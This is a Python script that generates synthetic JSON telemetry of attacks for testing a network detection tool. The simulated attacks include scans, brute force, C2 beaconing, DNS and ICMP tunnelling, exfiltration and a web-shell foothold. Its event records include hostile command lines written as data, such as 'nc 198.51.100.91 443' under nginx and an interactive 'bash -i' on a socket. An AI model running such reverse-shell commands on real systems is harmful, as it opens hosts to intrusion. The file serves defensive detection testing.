#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""attacks.py SEED: attacks in variations beside ordinary work, as weir's JSON events in order of time.

Each comes from a host of its own. attacks.py --expected prints a line an attack: what it is, its host or
process tree, and the detections of which at least one must name that. Networks as in day.py.
"""

import base64
import json
import sys

from day import Day, START, stamp

V6, OUT6 = "fd00::{:x}", "2001:db8::{:x}"
ATTACKS = []


def attack(*detections, six=False, tree=None):
    """Of a method that gets the Day, its beginning and its host."""
    def enter(method):
        number = len(ATTACKS) + 1
        host = V6.format(0x100 + number) if six else f"10.0.2.{number}"
        ATTACKS.append((method, host, tree.format(host) if tree else host, detections))
        return method
    return enter


def letters(day, count, alphabet="abcdefghijklmnopqrstuvwxyz"):
    return "".join(day.random.choice(alphabet) for _ in range(count))


# ---- looking around ----

@attack("LATERAL_MOVEMENT", "LATERAL_MOVEMENT_SLOW")
def scan_then_log_in(day, at, host):
    for i in range(80):
        day.connection(at + i / 3, host, f"10.0.8.{10 + i % 4}", 1 + i * 7, state="rejected")
    for i, port in enumerate((22, 445, 5985)):
        for target in (10, 11, 12):
            day.connection(at + 40 + i, host, f"10.0.8.{target}", port, 6000, 9000, 20)


@attack("LATERAL_MOVEMENT", "LATERAL_MOVEMENT_SLOW", six=True)
def scan_then_log_in_ipv6(day, at, host):
    for i in range(80):
        day.connection(at + i / 3, host, f"fd00::8:{10 + i % 4:x}", 1 + i * 7, state="unanswered")
    for i, port in enumerate((22, 445, 3389)):
        for target in (10, 11, 12):
            day.connection(at + 40 + i, host, f"fd00::8:{target:x}", port, 6000, 9000, 20)


@attack("LATERAL_MOVEMENT_SLOW", "LATERAL_MOVEMENT", "HOST_SWEEP_STEADY")
def slow_scan_then_log_in(day, at, host):
    for i in range(90):
        day.connection(at + i * 110, host, f"10.0.8.{10 + i % 3}", 20 + i, state="rejected")
    for i, port in enumerate((22, 3389, 5986)):
        for target in (10, 11, 12):
            day.connection(at + 10000 + i, host, f"10.0.8.{target}", port, 6000, 9000, 20)


@attack("HOST_SWEEP")
def sweep_of_an_odd_port(day, at, host):
    for i in range(60):
        day.connection(at + i / 2, host, f"10.0.9.{1 + i}", 8291, state="unanswered")


@attack("HOST_SWEEP", six=True)
def sweep_ipv6(day, at, host):
    for i in range(60):
        day.connection(at + i / 2, host, f"fd00::9:{1 + i:x}", 445, state="unanswered")


@attack("HOST_SWEEP_SLOW", "HOST_SWEEP_DAY", "HOST_SWEEP_STEADY")
def slow_sweep(day, at, host):
    for i in range(100):
        day.connection(at + i * 60, host, f"10.0.9.{1 + i}", 22, state="rejected")


@attack("SSH_BRUTE_FORCE", six=True)
def guessing_on_another_port(day, at, host):
    for i in range(40):
        day.connection(at + i * 4, host, "fd00::80", 2222, 2400, 3100, 3, speaks="ssh")


@attack("SSH_BRUTE_FORCE", "SSH_BRUTE_FORCE_SLOW")
def guessing_slowly(day, at, host):
    for i in range(120):
        day.connection(at + i * 60, host, "10.0.8.44", 22, 2400, 3100, 3)


@attack("LOGIN_FAILURES", "LOGIN_AFTER_FAILURES")
def guessing_in_the_log(day, at, host):
    for i in range(60):
        day.tell(at + i * 2, "login", source__ip=host, destination__ip="10.0.8.45", user__name=f"user{i % 5}", event__outcome="failure")
    day.tell(at + 130, "login", source__ip=host, destination__ip="10.0.8.45", user__name="user3", event__outcome="success")


# ---- calling home ----

def beacon(day, at, host, target, port, distance, jitter, count, **more):
    for i in range(count):
        day.connection(at + i * distance + day.random.uniform(-jitter, jitter), host, target, port, 350, 700, 0.4, **more)


@attack("C2_BEACONING", "C2_BEACONING_SLOW")
def beacon_without_a_name(day, at, host):
    beacon(day, at, host, "198.51.100.31", 443, 30, 3, 200, speaks="unidentified")


@attack("C2_BEACONING", "C2_BEACONING_SLOW", six=True)
def beacon_ipv6(day, at, host):
    beacon(day, at, host, OUT6.format(0x31), 80, 60, 6, 120, speaks="unidentified")


@attack("C2_BEACONING", "C2_BEACONING_SLOW", "BEACON_LONG")
def beacon_slowly(day, at, host):
    beacon(day, at, host, "198.51.100.33", 8443, 420, 40, 40, speaks="unidentified")


@attack("C2_BEACONING", "C2_BEACONING_SLOW")
def beacon_with_half_its_distance_as_jitter(day, at, host):
    beacon(day, at, host, "198.51.100.41", 443, 60, 30, 120, speaks="unidentified")


@attack("C2_BEACONING", "C2_BEACONING_SLOW")
def beacon_to_four_in_turn(day, at, host):
    for i in range(240):
        beacon(day, at + i * 30, host, f"198.51.100.{50 + i % 4}", 443, 30, 3, 1, speaks="unidentified")


@attack("C2_BEACONING", "C2_BEACONING_SLOW")
def bursts_in_one_connection(day, at, host):
    day.connection(at, host, "198.51.100.43", 80, 40 * 90, 40 * 120, 7200, burst=120, speaks="unidentified")


@attack("C2_BEACONING", "C2_BEACONING_SLOW")
def beacon_by_https_to_a_certificate_of_its_own(day, at, host):
    beacon(day, at, host, "198.51.100.60", 443, 60, 5, 60)
    for i in range(60):
        day.tell(at + i * 60 + 6, "tls", source__ip=host, destination__ip="198.51.100.60", destination__port=443,
                 network__transport="tcp", network__protocol="tls", tls__server__self_signed=True)


@attack("C2_BEACONING", "C2_BEACONING_SLOW")
def beacon_to_a_random_name(day, at, host):
    name = "xkqzvtrwpqjh.com"
    day.resolve(at - 1, host, name)
    beacon(day, at, host, day.site(name), 443, 45, 4, 100)


@attack("C2_BEACONING", "C2_BEACONING_SLOW")
def beacon_from_tmp(day, at, host):
    day.resolve(at - 1, host, "cdn.images.example")
    beacon(day, at, host, day.site("cdn.images.example"), 443, 60, 5, 100,
           by={"process__executable": "/tmp/.x", "process__location": "tmp", "process__packaged": False})


@attack("DGA")
def generated_domains(day, at, host):
    for i in range(60):
        day.ask(at + i * 3, host, letters(day, 13) + (".com", ".net", ".ru")[i % 3], code="NXDOMAIN")


@attack("DGA")
def generated_domains_slowly(day, at, host):
    for i in range(120):
        day.ask(at + i * 80, host, letters(day, 16) + ".top", code="NXDOMAIN")


@attack("DGA", six=True)
def generated_domains_of_digits(day, at, host):
    for i in range(60):
        day.ask(at + i * 20, host, letters(day, 24, "0123456789abcdef") + ".info", code="NXDOMAIN")


# ---- taking things out ----

@attack("DNS_EXFILTRATION", "DNS_TUNNEL", "DNS_TUNNEL_DATA_TYPE")
def tunnel_by_txt(day, at, host):
    for i in range(400):
        data = base64.b32encode(day.random.randbytes(30)).decode().lower().rstrip("=")
        day.ask(at + i, host, data + ".t.tunnel.example", "x" * 120, kind="TXT")


@attack("DNS_EXFILTRATION", "DNS_TUNNEL", six=True)
def file_in_names_of_hex(day, at, host):
    for i in range(300):
        day.ask(at + i * 1.5, host, day.random.randbytes(28).hex() + f".{i}.drop.example", "203.0.113.9")


@attack("DNS_EXFILTRATION", "DNS_TUNNEL")
def file_in_names_slowly(day, at, host):
    for i in range(700):
        day.ask(at + i * 12, host, day.random.randbytes(24).hex() + ".slow.example", "203.0.113.9")


@attack("LARGE_VOLUME_EXFILTRATION", "LARGE_VOLUME_EXFILTRATION_SINGLE")
def theft_to_several(day, at, host):
    day.connection(at, host, "10.0.0.20", 445, 2_000_000, 6_000_000_000, 240, burst=240)
    for i in range(8):
        day.connection(at + 250 + i * 20, host, f"198.51.100.{100 + i}", 443, 400_000_000, 900_000, 18, burst=18)


@attack("LARGE_VOLUME_EXFILTRATION_SINGLE", "LARGE_VOLUME_EXFILTRATION")
def theft_to_one(day, at, host):
    day.connection(at, host, "10.0.0.20", 445, 2_000_000, 6_000_000_000, 240, burst=240)
    day.connection(at + 250, host, "198.51.100.120", 443, 3_000_000_000, 900_000, 200, burst=200)


@attack("ICMP_TUNNEL", "ICMP_TUNNEL_CONTENT")
def tunnel_in_pings(day, at, host):
    for i in range(400):
        day.tell(at + i / 2, "icmp", source__ip=host, destination__ip="198.51.100.77", network__transport="icmp", icmp__type=8,
                 icmp__payload_size=900 + day.random.randrange(300), icmp__payload_hash=day.random.getrandbits(60))


# ---- coming in, and further ----

def delivery(day, at, host, name, path, kind, content, port, distance):
    day.resolve(at - 1, host, name)
    day.connection(at, host, day.site(name), 80, 500, 900_000, 2)
    day.request(at + 0.1, host, name, path, kind, content=content)
    for i in range(8):
        day.connection(at + 30 + i * distance, host, "198.51.100.90", port, 400, 900, 0.3)


@attack("MALWARE_DELIVERY")
def program_in_a_picture(day, at, host):
    delivery(day, at, host, "pictures.fresh.example", "/p/1.png", "image/png", "pe", 443, 30)


@attack("MALWARE_DELIVERY")
def program_that_calls_at_once(day, at, host):
    delivery(day, at, host, "files.fresh.example", "/x86", "application/octet-stream", "elf", 4444, 1)


SERVICE = ("php-fpm8.2", "php-fpm8.2", "systemd")


@attack("REVERSE_SHELL", "PRIVILEGE_ESCALATION", tree="{}web")
def shell_through_a_web_page(day, at, host):
    day.program(at, host, "/usr/bin/dash", "sh -c id", SERVICE, "web")
    day.program(at + 60, host, "/usr/bin/bash", "bash -i", ("dash", *SERVICE), "web", process__stdio_socket=True)


@attack("PRIVILEGE_ESCALATION", tree="{}app")
def root_through_a_web_page(day, at, host):
    day.program(at, host, "/usr/bin/dash", "sh -c uname -a", SERVICE, "app")
    day.program(at + 300, host, "/usr/bin/dash", "/bin/sh", ("x", "dash", *SERVICE), "app", raised="0", process__setuid=False)


@attack("REVERSE_CONNECTION_CHILD")
def call_back_by_nc(day, at, host):
    day.connection(at, "203.0.113.200", host, 443, 900, 900, 1, by={
        "process__executable": "/usr/sbin/nginx", "process__tree__id": host + "ngx"})
    day.connection(at + 20, host, "198.51.100.91", 443, 900, 900, 600, by={
        "process__executable": "/usr/bin/nc", "process__name": "nc", "process__command_line": "nc 198.51.100.91 443",
        "process__ancestor__name": ["sh", "nginx"], "process__is_service": True, "process__tree__id": host + "ngx"})


def main():
    if sys.argv[1] == "--expected":
        for method, _, key, detections in ATTACKS:
            print("|".join((method.__name__.replace("_", " "), key, " ".join(detections))))
        return
    day = Day(int(sys.argv[1]))
    for number, (method, host, _, _) in enumerate(ATTACKS):
        begin = START + 9 * 3600 + number * 97
        method(day, begin, host)
        # Each host has names for what else it does, as hosts have.
        for i in range(40):
            name = f"www.site{i}.com"
            day.resolve(START + 8 * 3600 + i * 5, host, name)
            day.connection(START + 8 * 3600 + i * 5 + 1, host, day.site(name), 443, 2000, 30_000, 2)
    day.events.sort()
    for at, _, fields in day.events:
        fields["@timestamp"] = stamp(at)
        sys.stdout.write(json.dumps(fields, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
